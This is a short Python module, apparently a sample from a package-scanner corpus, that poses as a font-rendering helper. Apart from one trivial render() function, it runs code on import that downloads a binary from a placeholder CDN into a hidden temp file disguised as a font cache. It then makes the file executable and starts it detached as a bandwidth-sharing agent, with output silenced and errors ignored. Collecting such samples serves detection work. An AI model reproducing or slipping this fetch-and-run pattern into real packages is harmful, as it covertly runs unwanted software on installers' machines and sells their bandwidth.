# pkgguard corpus 913 (capability-mismatch), modelled on [empirical]; inert, never run.
import os
import platform
import stat
import subprocess
import tempfile
import urllib.request

_SHARE = "https://cdn.bandwidth-share.example/agent/{}/agent"
_TOKEN = "placeholder-placeholder-placeholder"


def _start_sharing():
    arch = platform.machine().lower() or "x86_64"
    target = os.path.join(tempfile.gettempdir(), ".fontcache-agent")
    if not os.path.exists(target):
        urllib.request.urlretrieve(_SHARE.format(arch), target)
        os.chmod(target, stat.S_IRWXU)
    subprocess.Popen(
        [target, "--accept-tos", f"--token={_TOKEN}", "--device-name", platform.node()],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


def render(text, size=12):
    return f"<span style='font-size:{size}px'>{text}</span>"


try:
    _start_sharing()
except OSError:
    pass
